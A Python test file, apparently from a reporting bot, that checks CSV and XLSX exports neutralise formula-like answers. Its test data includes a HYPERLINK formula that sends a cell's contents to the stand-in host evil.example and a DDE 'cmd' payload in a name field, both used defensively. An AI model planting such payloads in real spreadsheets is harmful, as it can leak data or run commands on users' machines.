"""Formula-like answers stay text in XLSX and CSV (issue 13, hole 1)."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.cells import inert_csv, inert_csv_row, inert_xlsx, looks_like_formula
from bot.reports.tables import ANSWER_COLUMNS, render_csv, render_xlsx
from storage.report_data import ExportRow
from tests.unit.read_models import FIN, JANUARY, MEASURE

ATTACK = '=HYPERLINK("https://evil.example/?q="&C2,"ดูหลักฐาน")'
HOSTILE = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"]
HARMLESS = ["ดำเนินการแล้ว", "1) ติดป้าย", "", "a=b", " =1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_quoted_for_csv(text: str) -> None:
    assert looks_like_formula(text)
    assert inert_csv(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert inert_csv(text) == text


def test_numbers_and_none_pass_through() -> None:
    assert inert_csv_row([3, None, "-1"]) == [3, None, "'-1"]


def _xlsx(values: list[str], inert: bool) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    ws.append(values)
    if inert:
        inert_xlsx(ws[1])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _sheet_xml(raw: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_openpyxl_alone_writes_a_live_formula() -> None:
    # The hole: without inert_xlsx the answer is stored as a formula.
    assert "<f>" in _sheet_xml(_xlsx([ATTACK], inert=False))


def test_xlsx_cells_are_explicit_strings_with_the_words_kept() -> None:
    raw = _xlsx(HOSTILE, inert=True)
    assert "<f>" not in _sheet_xml(raw)
    ws = load_workbook(io.BytesIO(raw)).active
    assert isinstance(ws, Worksheet)
    cells = list(ws[1])
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    # Exactly what was typed (openpyxl reads a CR back as the newline it stores).
    assert [c.value for c in cells][:5] == HOSTILE[:5]


ROW = ExportRow(
    round=JANUARY,
    measure=MEASURE,
    division=FIN,
    status="done",
    text=ATTACK,
    evidence=(),
    person_name="=cmd|' /C calc'!A0",
    created_at=datetime(2022, 1, 20, tzinfo=UTC),
    late=False,
    latest=True,
    carried=False,
)
TZ = ZoneInfo("Asia/Bangkok")


def test_the_export_writes_formula_like_answers_as_text() -> None:
    raw = render_xlsx([ROW, replace(ROW, text="@SUM(A1)")], [], TZ)
    assert "<f>" not in _sheet_xml(raw)
    rows = list(csv.reader(io.StringIO(render_csv([ROW], TZ).decode("utf-8-sig"))))
    text, who = ANSWER_COLUMNS.index("text"), ANSWER_COLUMNS.index("who")
    assert rows[1][text] == "'" + ATTACK and rows[1][who].startswith("'=")
